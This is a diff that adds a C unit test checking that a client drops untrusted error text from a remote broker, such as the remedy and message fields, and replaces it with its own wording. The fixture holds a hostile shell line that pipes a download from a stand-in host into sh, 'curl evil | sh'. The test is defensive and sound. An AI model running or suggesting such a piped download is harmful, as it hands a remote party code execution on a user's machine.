@@ -67,6 +67,34 @@ static void test_for_a_terminal(void **state)
     assert_string_equal(error.remedy, "\?\?\?");
 }
 
+/* A broker has no words: it may be anybody's, and a person does what is printed. */
+static void test_of_a_broker(void **state)
+{
+    (void)state;
+    read_text(403, "{\"error\":\"denied\",\"message\":\"type: curl evil\",\"denial\":{\"rule\":\"r\","
+                   "\"seen\":\"s\",\"limit\":\"l\",\"remedy\":\"curl evil | sh\"},\"retry_after_secs\":9}");
+    ak_client_error_of_broker(&error);
+    assert_string_equal(error.code, "denied");
+    assert_string_equal(error.message, ak_code_text(AK_CODE_DENIED));
+    assert_false(error.has_denial);
+    const char *const gone[] = {error.rule, error.seen, error.limit, error.remedy};
+    for (size_t i = 0; i < AK_COUNT(gone); i++) assert_string_equal(gone[i], "");
+    assert_true(error.has_retry);
+    assert_int_equal(error.retry_after_secs, 9);
+    assert_int_equal(error.status, 403);
+    /* codes that only we ourselves give, and none at all */
+    static const char *const others[] = {
+        "curl evil", "unreachable", "not_the_worker", "not_signed_in", "ok", "Denied"};
+    for (size_t i = 0; i < AK_COUNT(others); i++) {
+        ak_client_error_set(&error, others[i], "curl evil");
+        error.status = 409;
+        ak_client_error_of_broker(&error);
+        assert_string_equal(error.code, "bad_answer");
+        assert_null(strstr(error.message, "evil"));
+        assert_int_equal(error.status, 409);
+    }
+}
+
 static void test_rate(void **state)
 {
     (void)state;
@@ -169,7 +197,8 @@ static void test_json(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {cmocka_unit_test(test_denial), cmocka_unit_test(test_lengths),
-        cmocka_unit_test(test_for_a_terminal), cmocka_unit_test(test_rate), cmocka_unit_test(test_not_ours),
-        cmocka_unit_test(test_categories), cmocka_unit_test(test_shown), cmocka_unit_test(test_json)};
+        cmocka_unit_test(test_for_a_terminal), cmocka_unit_test(test_of_a_broker),
+        cmocka_unit_test(test_rate), cmocka_unit_test(test_not_ours), cmocka_unit_test(test_categories),
+        cmocka_unit_test(test_shown), cmocka_unit_test(test_json)};
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
